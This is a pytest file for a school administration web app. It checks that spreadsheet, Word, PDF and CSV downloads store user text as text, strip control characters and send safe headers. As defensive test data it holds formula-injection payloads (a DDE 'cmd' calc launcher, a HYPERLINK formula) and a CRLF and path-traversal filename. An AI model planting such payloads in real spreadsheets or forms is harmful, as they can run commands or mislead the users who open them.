"""Every download of the application is safe with any text a user stored.

* No spreadsheet holds a formula made of user text: every cell from user data is a text cell
  (``=HYPERLINK(…)`` and ``=cmd|' /C calc'!A0`` are shown as typed, never computed), numbers
  are numbers and dates are dates.
* No download fails on text stored before the input rule (control characters, Word's soft
  line break): .xlsx and .docx are XML and cannot carry them, so they are cleaned on the way out.
* Every download is an attachment with its name safely encoded (RFC 5987), its content type
  (with ``charset=utf-8`` once, for text) and ``nosniff``.

The download endpoints are taken from the URL map and their URLs from the access matrix, so a
new export is checked without being listed here.
"""
from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from sqlalchemy import literal, update

from shnor_app.extensions import db
from shnor_app.models import (
    AgendaItem, Course, InterviewSeries, JointEvent, Meeting, Municipality, Organization,
    Partnership, Recommendation, Roadmap, RoadmapItem, RoadmapSection, StaffMember, Visit,
    VisitLesson, VisitVisitor,
)
from shnor_app.services import exports

from tests.conftest import login, post
from tests.security import _areas

FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1;"Подробнее")', "=cmd|' /C calc'!A0",
            "+1+2", "-3+4", "@SUM(A1:A2)", "=1+1"]
# What older rows may hold (PostgreSQL never stored NUL; SQLite may have).
STORED_DIRT = "\x0b\x01\x1f\x7f\ufffe"


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_a_cell_writes_text_as_text_numbers_as_numbers_and_dates_as_dates():
    from openpyxl import load_workbook

    wb = exports.workbook()
    ws = exports.sheet(wb, "Лист=1", [30], first=True)
    exports.header(ws, ["Текст", "Число", "Дата"])
    for f in FORMULAS:
        exports.append(ws, [f + STORED_DIRT + "\x00", 5, date(2026, 2, 27)])
    exports.append(ws, [None, Decimal("2.5"), 1.25])
    data = exports.save(wb)
    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data)
    ws = load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows(min_row=2))
    assert [r[0].value for r in rows[:-1]] == [f + "\n" for f in FORMULAS]
    assert {r[0].data_type for r in rows[:-1]} == {"s"}
    assert rows[0][1].value == 5 and rows[0][1].data_type == "n"
    assert rows[0][2].is_date and rows[0][2].number_format == "DD.MM.YYYY"
    assert rows[-1][1].value == 2.5 and rows[-1][2].value == 1.25
    assert ws.freeze_panes == "A2"


def test_a_write_only_sheet_is_written_the_same_way():
    wb = exports.workbook(write_only=True)
    ws = exports.sheet(wb, "Выявление", [40])
    exports.append(ws, ["=cmd|' /C calc'!A0", 3], bold=True)
    assert "<f>" not in _sheet_xml(exports.save(wb))


def test_only_the_export_helper_writes_workbooks():
    """One place writes .xlsx: a module that built its own ``Workbook`` would bring the
    formula hole back."""
    import pathlib

    import shnor_app

    root = pathlib.Path(shnor_app.__file__).parent
    writers = [str(p.relative_to(root)) for p in root.rglob("*.py")
               if re.search(r"openpyxl import .*\bWorkbook\b|WriteOnlyCell|\.append\(\s*\[",
                            p.read_text(encoding="utf-8")) and "openpyxl" in p.read_text()
               and p.name != "exports.py"]
    assert writers == []


# --------------------------------------------------------------------------- every download

# Display texts of the records the downloads show: each gets a formula and stored control
# characters in front of what it held.
POISONED = [
    (Organization, "short_name"), (Organization, "full_name"), (StaffMember, "full_name"),
    (Municipality, "name"), (Roadmap, "title"), (RoadmapSection, "title"),
    (RoadmapItem, "text"), (RoadmapItem, "executors"), (RoadmapItem, "period_text"),
    (Course, "title"), (InterviewSeries, "topic"), (Meeting, "director_name"),
    (AgendaItem, "title"), (Visit, "purpose"), (Visit, "findings"), (VisitVisitor, "full_name"),
    (VisitLesson, "teacher_name"), (Recommendation, "text"), (Partnership, "subject"),
    (JointEvent, "topic"),
]
PREFIX = "=cmd|' /C calc'!A0" + STORED_DIRT


def _poison():
    for model, column in POISONED:
        col = getattr(model, column)
        db.session.execute(update(model).where(col.is_not(None))
                           .values({column: literal(PREFIX) + col}))
    db.session.commit()


def _download_rules(app):
    """Endpoint → formats of every rule that answers with a document."""
    rules = {}
    for rule in app.url_map.iter_rules():
        if "<fmt>" in rule.rule:
            rules[rule.endpoint] = ("pdf", "xlsx", "docx", "json")
        else:
            m = re.search(r"\.(xlsx|pdf|docx|json|csv)$", rule.rule)
            if m:
                rules[rule.endpoint] = (m.group(1),)
    return rules


@pytest.fixture
def every_area(request, world):
    extra = {}
    for area in _areas.AREAS:
        if area == "recommendations":
            continue  # its source is a test double; visits give recommendations too
        extra.update(_areas.build_extra(area, request))
    return extra


def test_every_download_is_safe_with_formulas_and_stored_control_characters(app, world,
                                                                          every_area):
    rules = _download_rules(app)
    assert len(rules) >= 12
    _poison()
    client = login(app.test_client(), world.users["admin"])
    seen, formula_texts, failures = set(), 0, []
    for area in _areas.AREAS:
        for case in _areas.cases(area):
            if case.endpoint not in rules or case.status_for("admin") != 200:
                continue
            base = case.url(world, every_area)
            for fmt in rules[case.endpoint]:
                url = re.sub(r"\.(xlsx|pdf|docx|json|csv)(?=$|\?)", "." + fmt, base, count=1)
                resp = (post(client, url) if case.method == "POST" else client.get(url))
                if resp.status_code == 404 and fmt not in base:
                    continue  # a format this document is not offered in
                seen.add(case.endpoint)
                if resp.status_code != 200:
                    failures.append((url, resp.status_code))
                    continue
                cd = resp.headers["Content-Disposition"]
                assert cd.startswith('attachment; filename="'), (url, cd)
                assert resp.headers["X-Content-Type-Options"] == "nosniff"
                assert resp.headers["Content-Type"].count("charset") <= 1
                if fmt == "xlsx":
                    xml = _sheet_xml(resp.data)
                    assert "<f>" not in xml and "<f " not in xml, url
                    formula_texts += xml.count("=cmd|")
                elif fmt == "docx":
                    from docx import Document

                    Document(io.BytesIO(resp.data))
                elif fmt == "pdf":
                    assert resp.data.startswith(b"%PDF")
    assert not failures, failures
    assert seen == set(rules), set(rules) - seen
    assert formula_texts >= 10  # the poisoned names are in the sheets, as text


def test_a_formula_typed_into_a_form_comes_back_as_text(world, login_as):
    from openpyxl import load_workbook

    from tests.factories.roadmaps import make_roadmap

    rm, _, items = make_roadmap(world.school_a, 1)
    c = login_as("methodist")
    formula = FORMULAS[0]
    resp = post(c, f"/roadmaps/items/{items[0].id}/edit", {
        "number": "1.", "text": formula, "period_text": "март", "executors": "=cmd|' /C calc'!A0",
        "status": "NOT_STARTED"}, htmx=True)
    assert resp.status_code == 200
    data = c.get(f"/roadmaps/{rm.id}/export.xlsx").data
    cells = {c.value: c.data_type for row in load_workbook(io.BytesIO(data)).active.iter_rows()
             for c in row if c.value}
    assert cells[formula] == "s" and cells["=cmd|' /C calc'!A0"] == "s"


# --------------------------------------------------------------------------- the download helper


def test_download_names_are_safe_and_encoded(app):
    from shnor_app.web import send_download

    with app.test_request_context():
        resp = send_download(b"x", 'Протокол № 5 "итог"\r\n/../x.docx', "docx")
        cd = resp.headers["Content-Disposition"]
        assert "\r" not in cd and "\n" not in cd and "/" not in cd.split("''")[0]
        assert cd.startswith('attachment; filename="')
        assert "filename*=UTF-8''%D0%9F%D1%80%D0%BE%D1%82%D0%BE%D0%BA%D0%BE%D0%BB" in cd
        assert resp.headers["Content-Type"] == exports.MIMETYPES["docx"]
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        csv = send_download(b"a;b", "list.csv", "text/csv; charset=utf-8")
        assert csv.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert csv.headers["Content-Disposition"] == 'attachment; filename="list.csv"'
        long = send_download(b"x", "Я" * 300 + ".xlsx", "xlsx")
        assert long.headers["Content-Disposition"].endswith(".xlsx")


def test_a_stored_csv_is_downloaded_with_one_charset(world, login_as):
    from tests.views.test_files import _upload

    c = login_as("methodist")
    assert _upload(c, world.school_a, "список.csv", "ФИО;класс\nИванов;5\n".encode()).status_code \
        == 200
    from sqlalchemy import select

    from shnor_app.models import Attachment

    att = db.session.scalar(select(Attachment))
    resp = c.get(f"/files/download/{att.id}")
    assert resp.status_code == 200 and resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "filename*=UTF-8''%D1%81%D0%BF%D0%B8%D1%81%D0%BE%D0%BA.csv" in resp.headers[
        "Content-Disposition"]


# --------------------------------------------------------------------------- imports


def _workbook_with(rows) -> bytes:
    """A workbook as Excel writes it: a text cell that begins with «=» (typed after an
    apostrophe) is a string; a real formula has no value until Excel computes it."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for r, row in enumerate(rows, start=1):
        for c, (value, kind) in enumerate(row, start=1):
            cell = ws.cell(r, c, value)
            cell.data_type = kind
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_spreadsheet_imports_read_values_keep_formula_text_as_text_and_clean_cells():
    from shnor_app.services.courses import imports as course_imports
    from shnor_app.services.monitoring import assessments

    formula_text = "=HYPERLINK(\"http://example.invalid\";\"Жми\")"
    courses = course_imports.parse_table("курсы.xlsx", _workbook_with([
        [("ФИО", "s"), ("Школа", "s"), ("Курс", "s"), ("Дата окончания", "s"),
         ("Номер удостоверения", "s")],
        [("Иванова Анна", "s"), ("СОШ № 1", "s"), ("=1+1", "f"), ("01.03.2025", "s"),
         (formula_text, "s")],
    ]))
    values = courses.rows[0].values
    assert values["certificate"] == formula_text  # text stays text
    assert values["course"] in (None, "")  # a formula is not read as its source
    csv = course_imports.parse_table("курсы.csv", (
        "ФИО;Школа;Курс;Дата окончания\nИванова\x0bАнна\x01;СОШ № 1;=1+1;01.03.2025\n").encode())
    values = csv.rows[0].values
    assert values["full_name"] == "Иванова\nАнна" and values["course"] == "=1+1"
    results = assessments.parse_file("результаты.xlsx", _workbook_with([
        [("Школа", "s"), ("Год", "s"), ("Процедура", "s"), ("Предмет", "s"), ("Класс", "s"),
         ("Доля «2», %", "s")],
        [(formula_text, "s"), ("2024", "s"), ("ВПР", "s"), ("=cmd|' /C calc'!A0", "f"),
         ("5", "s"), ("10", "s")],
    ]))
    cells = results.rows[0][1]
    assert cells[results.columns["school"]] == formula_text
    assert cells[results.columns["subject"]] is None


def test_a_pasted_roadmap_keeps_soft_line_breaks_in_their_cells_and_formulas_as_text(
        world, login_as):
    from sqlalchemy import select

    pasted = ("План мероприятий на 2026 год\n"
              "№\tМероприятие\tСрок\tИсполнители\n"
              + "".join(f"{n}.\tСеминар\x0bдля учителей {n}\tмарт 2026\tУО\x0bшкола\x00\n"
                        for n in range(1, 6))
              + "6.\t=cmd|' /C calc'!A0\tапрель 2026\tУО\n")
    c = login_as("admin")
    preview = post(c, "/roadmaps/import", {"text": pasted, "owner_id": ""})
    assert preview.status_code == 200, preview.get_data(as_text=True)[:500]
    upload_id = re.search(r'name="upload_id" value="([^"]+)"',
                          preview.get_data(as_text=True)).group(1)
    resp = post(c, "/roadmaps/import", {"upload_id": upload_id, "owner_id": "", "confirm": "1"})
    assert resp.status_code == 302
    items = db.session.scalars(select(RoadmapItem).order_by(RoadmapItem.position)).all()
    assert [i.text for i in items[:2]] == ["Семинар\nдля учителей 1", "Семинар\nдля учителей 2"]
    assert items[0].executors == "УО\nшкола" and len(items) == 6
    assert items[5].text == "=cmd|' /C calc'!A0"
    rm_id = items[0].roadmap_id
    from openpyxl import load_workbook

    data = c.get(f"/roadmaps/{rm_id}/export.xlsx").data
    cells = {c.value: c.data_type for row in load_workbook(io.BytesIO(data)).active.iter_rows()
             for c in row if c.value}
    assert cells["=cmd|' /C calc'!A0"] == "s"
